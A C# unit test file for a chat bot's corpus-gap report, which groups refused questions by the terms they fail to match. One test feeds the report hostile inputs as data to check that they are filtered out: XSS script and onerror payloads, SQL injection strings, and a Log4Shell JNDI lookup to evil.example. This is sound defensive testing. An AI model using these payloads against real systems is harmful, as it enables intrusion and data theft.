using KforBot.Log;

namespace KforBot.Tests.Log;

public sealed class CorpusGapsTests
{
    [Fact]
    public async Task Gaps_GroupRefusalsByUncoveredWords_MostFrequentFirst_WithExamples()
    {
        await using var log = new LogServices();
        await log.StartAsync();
        log.Log.Record(Sample.Alice, Sample.PartlyRefused("Weather in Pristina?", ["Pristina"], ["weather"]), TimeSpan.Zero);
        log.Clock.Advance(TimeSpan.FromDays(2));
        log.Log.Record(Sample.Bob, Sample.Refused("What did Albin Kurti say?", "Albin Kurti"), TimeSpan.Zero);
        log.Log.Record(Sample.Alice, Sample.Refused("Is the weather good?", "Weather"), TimeSpan.Zero);
        log.Log.Record(Sample.Alice, Sample.Refused("Albin Kurti and KFOR?", "Albin Kurti"), TimeSpan.Zero);
        log.Log.Record(Sample.Bob, Sample.Refused("Kurti's weather?", "Albin Kurti", "weather"), TimeSpan.Zero);
        log.Log.Record(Sample.Bob, Sample.Answered(), TimeSpan.Zero);
        await log.StopAsync();

        var gaps = await log.Get<CorpusGaps>().FindAsync(null, CancellationToken.None);

        Assert.Equal(["Albin Kurti", "weather"], gaps.Select(g => g.Term));
        Assert.Equal([3, 3], gaps.Select(g => g.Questions));
        Assert.Equal(["Kurti's weather?", "Is the weather good?", "Weather in Pristina?"], gaps[1].Examples);

        var recent = await log.Get<CorpusGaps>().FindAsync(LogServices.Start.AddDays(1), CancellationToken.None);
        Assert.Equal([("Albin Kurti", 3), ("weather", 2)], recent.Select(g => (g.Term, g.Questions)));
    }

    [Fact]
    public async Task Gaps_KeepTheWordsOfANameTogether()
    {
        await using var log = new LogServices();
        await log.StartAsync();
        log.Log.Record(Sample.Bob, Sample.Refused("albin kurti kfor", "albin", "kurti"), TimeSpan.Zero);
        log.Log.Record(Sample.Alice, Sample.Refused("What did Albin Kurti say about KFOR?", "Albin", "Kurti"), TimeSpan.Zero);
        log.Log.Record(Sample.Bob, Sample.PartlyRefused("Does Kurti like the weather?", ["like"], ["Kurti", "weather"]), TimeSpan.Zero);
        await log.StopAsync();

        var gaps = await log.Get<CorpusGaps>().FindAsync(null, CancellationToken.None);

        Assert.Equal([("Albin Kurti", 2), ("Kurti", 1), ("weather", 1)], gaps.Select(g => (g.Term, g.Questions)));
    }

    [Theory]
    [InlineData("1", "1")]
    [InlineData("7?", "7")]
    [InlineData("x", "x")]
    [InlineData("<script>alert('x')</script>", "script|alert")]
    [InlineData("document.cookie", "document.cookie")]
    [InlineData("what is document . cookie", "document|cookie")]
    [InlineData("javascript:alert(1)", "javascript|alert")]
    [InlineData("<b>weather</b>", "b|weather")]
    [InlineData("<img src=x onerror=alert(1)>", "img|src|onerror|alert")]
    [InlineData("'; DROP TABLE passages; --", "DROP|TABLE|passages")]
    [InlineData("\" OR 1=1 --", "1=1")]
    [InlineData("&lt;weather&gt;", "lt|weather")]
    [InlineData("${jndi:ldap://evil.example/a}", "jndi|ldap")]
    public async Task Gaps_LeaveOutNoiseAndHostileInput(string question, string uncovered)
    {
        await using var log = new LogServices();
        await log.StartAsync();
        log.Log.Record(Sample.Alice, Sample.Refused(question, uncovered.Split('|')), TimeSpan.Zero);
        log.Log.Record(Sample.Bob, Sample.Refused("Is the weather good?", "weather"), TimeSpan.Zero);
        await log.StopAsync();

        var gaps = await log.Get<CorpusGaps>().FindAsync(null, CancellationToken.None);

        Assert.Equal([("weather", 1)], gaps.Select(g => (g.Term, g.Questions)));
    }
}
